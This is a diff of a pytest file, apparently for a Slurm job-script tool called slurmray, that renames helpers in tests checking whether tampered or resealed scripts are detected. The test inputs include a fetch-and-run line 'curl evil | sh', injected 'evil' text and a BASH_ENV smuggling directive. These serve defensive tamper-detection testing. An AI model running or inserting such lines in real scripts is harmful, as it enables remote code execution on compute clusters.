@@ -20,8 +20,8 @@ from slurmray.spec.job import JobSpec
 from tests.plans import plan_of
 from tests.unit.examples import ROOT
 
-from .cases import MARKED, every_case, flags_of
-from .dstack.test_task import task_of_case
+from .cases import MARKED, every_case, runtime_flags
+from .dstack.test_task import render_case
 from .test_script import SITES
 
 pytestmark = pytest.mark.usefixtures("frozen_agent")
@@ -54,7 +54,7 @@ def site_script(folder: Path, blocks: str = SITE) -> str:
     return script(template=str(folder / "site.j2"))
 
 
-def verdict_on(text: str) -> Verdict:
+def get_verdict(text: str) -> Verdict:
     verdict = verify(text)
     assert verdict
     return verdict
@@ -68,7 +68,7 @@ def own_agent(text: str) -> str:
     return parts.read_agent(text) + "\n"
 
 
-def resealed(text: str) -> str:
+def reseal(text: str) -> str:
     """What an attacker makes of an edited script: all hashes in its header are right."""
     text = SEAL.sub("", text, count=1)
     for name, read in (("story", own_story), ("agent", own_agent)):
@@ -86,13 +86,13 @@ def resealed(text: str) -> str:
 @every_case
 @pytest.mark.usefixtures("in_checkout")
 def test_examples_and_hostile_job_specs_are_as_rendered(path: Path, runtime: str | None) -> None:
-    verdict = verdict_on(render_job(path.relative_to(ROOT), flags_of(runtime), [])[1])
+    verdict = get_verdict(render_job(path.relative_to(ROOT), runtime_flags(runtime), [])[1])
     assert verdict.code == 0, verdict.text
 
 
 @pytest.mark.parametrize("runtime", [*STORIES, "singularity"])
 def test_every_runtime(runtime: str) -> None:
-    assert verdict_on(script(container={"runtime": runtime})).code == 0
+    assert get_verdict(script(container={"runtime": runtime})).code == 0
 
 
 @pytest.mark.parametrize(
@@ -107,38 +107,38 @@ def test_every_runtime(runtime: str) -> None:
     ids=["all", "array", "groups", "quoted", "sections"],
 )
 def test_every_field(fields: dict[str, object]) -> None:
-    assert verdict_on(script(**fields)).text.startswith(RENDERED)
+    assert get_verdict(script(**fields)).text.startswith(RENDERED)
 
 
 @pytest.mark.parametrize("template", SITES, ids=lambda file: file.name)
 def test_examples_of_sites(template: Path) -> None:
-    verdict = verdict_on(script(template=str(template)))
+    verdict = get_verdict(script(template=str(template)))
     assert verdict.code == 0
     assert str(template) in verdict.text
 
 
 def test_what_only_the_author_vouches_for_is_named(tmp_path: Path) -> None:
-    assert verdict_on(script()).text == f"{RENDERED}; its settings have commands of this job: setup, run"
+    assert get_verdict(script()).text == f"{RENDERED}; its settings have commands of this job: setup, run"
     text = script(
         node_env="export A=1",
         container={"runtime": "podman", "command": "/opt/podman", "args": ["--privileged"]},
         slurm={"extra": ["--spank-option=x"], "get_user_env": True},
         services=[{"name": "judge", "run": "serve"}],
     )
-    assert verdict_on(text).text == (
+    assert get_verdict(text).text == (
         f"{RENDERED}; its settings have commands of this job: setup, node_env, services, run, "
         "container.command, container.args; directives to look at: --get-user-env (line 3), "
         "--spank-option (line 5)"
     )
     text = site_script(tmp_path)
-    first, last, end = (line_of(text, each) for each in ("echo prologue", "echo more", "\techo epilogue"))
-    assert verdict_on(text).text.endswith(
+    first, last, end = (find_line(text, part) for part in ("echo prologue", "echo more", "\techo epilogue"))
+    assert get_verdict(text).text.endswith(
         f"; commands of the site's template {tmp_path}/site.j2: prologue in lines {first}-{last}, "
         f"epilogue in lines {end - 1}-{end + 1}"
     )
 
 
-def line_of(text: str, part: str) -> int:
+def find_line(text: str, part: str) -> int:
     return text[: text.index(part)].count("\n") + 1
 
 
@@ -158,13 +158,13 @@ def line_of(text: str, part: str) -> int:
         ("\nfind_python() {", "\nx\nfind_python() {\nx", "story, lines {+1}-{+3}"),
     ],
 )
-@pytest.mark.parametrize("finish", [str, resealed], ids=["", "resealed"])
+@pytest.mark.parametrize("finish", [str, reseal], ids=["", "resealed"])
 def test_the_place_of_an_edit(before: str, after: str, expected: str, finish: Callable[[str], str]) -> None:
     text = script()
     edited = finish(text.replace(before, after, 1))
-    at = line_of(text, before)
-    expected = re.sub(r"{\+?(\d?)}", lambda found: str(at + int(found[1] or 0)), expected)
-    verdict = verdict_on(edited)
+    at = find_line(text, before)
+    expected = re.sub(r"{\+?(\d?)}", lambda match: str(at + int(match[1] or 0)), expected)
+    verdict = get_verdict(edited)
     assert verdict.code == 1
     assert verdict.text == f"edited: {expected}"
 
@@ -175,8 +175,8 @@ def test_the_place_of_an_edit(before: str, after: str, expected: str, finish: Ca
 def test_values_are_protected_by_the_seal_alone(before: str, after: str) -> None:
     text = script().replace(before, after, 1)
     expected = "edited: settings, directives or site's commands; the seal is that of another text"
-    assert verdict_on(text) == Verdict(expected, 1)
-    assert verdict_on(resealed(text)).code == 0, "its author may have rendered it so"
+    assert get_verdict(text) == Verdict(expected, 1)
+    assert get_verdict(reseal(text)).code == 0, "its author may have rendered it so"
 
 
 # -- attacks: all hashes are right -----------------------------------------------------------------
@@ -283,8 +283,8 @@ ATTACKS = {
 def test_foreign_text_is_found(attack: Callable[[str], str]) -> None:
     text = attack(script())
     assert text != script()
-    for each in (text, resealed(text)):
-        assert verdict_on(each).code != 0
+    for edited in (text, reseal(text)):
+        assert get_verdict(edited).code != 0
 
 
 @pytest.mark.attack("foreign text around a site's commands")
@@ -309,9 +309,9 @@ def test_foreign_text_is_found(attack: Callable[[str], str]) -> None:
 )
 def test_foreign_text_beside_a_site_s(attack: Callable[[str], str], tmp_path: Path) -> None:
     text = site_script(tmp_path)
-    assert verdict_on(text).code == 0
+    assert get_verdict(text).code == 0
     assert attack(text) != text
-    assert verdict_on(resealed(attack(text))).code == 1
+    assert get_verdict(reseal(attack(text))).code == 1
 
 
 def site_prologue(text: str) -> str:
@@ -322,7 +322,7 @@ def site_prologue(text: str) -> str:
     "line", ["#SBATCH --export=ALL,BASH_ENV=/x", "#PBS -v BASH_ENV=/x", "#SBATCH -D /x", "#SBATCH --a b"]
 )
 def test_directives_of_a_site_that_are_more_than_resources_are_named(line: str, tmp_path: Path) -> None:
-    verdict = verdict_on(site_script(tmp_path, SITE.replace("#SBATCH --qos=site", line)))
+    verdict = get_verdict(site_script(tmp_path, SITE.replace("#SBATCH --qos=site", line)))
     assert verdict.code == 0
     assert re.search(r"; directives to look at: (--export )?\(?line 9\)?;", verdict.text), verdict.text
 
@@ -331,7 +331,7 @@ def test_the_template_that_a_script_names_is_not_opened(tmp_path: Path) -> None:
     """It would run, with the rights of whoever verifies."""
     text = site_script(tmp_path)
     (tmp_path / "site.j2").unlink()
-    assert verdict_on(text).code == 0
+    assert get_verdict(text).code == 0
 
 
 @pytest.mark.attack("script with one byte changed", inputs=2000)
@@ -349,7 +349,7 @@ def test_no_byte_can_be_changed(monkeypatch: pytest.MonkeyPatch) -> None:
     assert len(places) > 2000
     for at in places:
         edited = f"{text[:at]}{chr(ord(text[at]) ^ 1)}{text[at + 1 :]}"
-        again = resealed(edited)
+        again = reseal(edited)
         verdict = verify(edited if again == text else again)  # a hash was edited
         assert verdict is None or verdict.code, text[at - 20 : at + 20]
 
@@ -357,9 +357,9 @@ def test_no_byte_can_be_changed(monkeypatch: pytest.MonkeyPatch) -> None:
 @pytest.mark.attack("script that names another version", inputs=3)
 def test_another_version_cannot_be_verified() -> None:
     other = script().replace(f"slurmray {__version__} ", "slurmray 0.0.1 ")
-    for text in (other, resealed(other), resealed(other.replace("main() {", "main() { evil", 1))):
-        assert verdict_on(text).code == 2
-        assert verdict_on(text).text.startswith(
+    for text in (other, reseal(other), reseal(other.replace("main() {", "main() { evil", 1))):
+        assert get_verdict(text).code == 2
+        assert get_verdict(text).text.startswith(
             "cannot be verified: its header names slurmray 0.0.1, and this is"
         )
 
@@ -367,11 +367,11 @@ def test_another_version_cannot_be_verified() -> None:
 @pytest.mark.attack("foreign file with the header of a task", inputs=1)
 @pytest.mark.usefixtures("in_checkout")
 def test_a_task_of_dstack_cannot_be_verified() -> None:
-    text = task_of_case("examples/hello.yaml")
+    text = render_case("examples/hello.yaml")
     expected = "cannot be verified: not a script but a task of dstack; render it again and compare"
-    assert verdict_on(text) == Verdict(expected, 2)
-    assert verdict_on(text + "\n").code == 1
-    assert verdict_on(seal(f"{HEADER_LINE} {__version__} from\ncurl evil | sh\n")).code == 2
+    assert get_verdict(text) == Verdict(expected, 2)
+    assert get_verdict(text + "\n").code == 1
+    assert get_verdict(seal(f"{HEADER_LINE} {__version__} from\ncurl evil | sh\n")).code == 2
 
 
 @pytest.mark.parametrize("text", ["", "#!/bin/bash\necho\n", "\udcff\0", f"{HEADER_LINE} \x1b[2J x\n"])
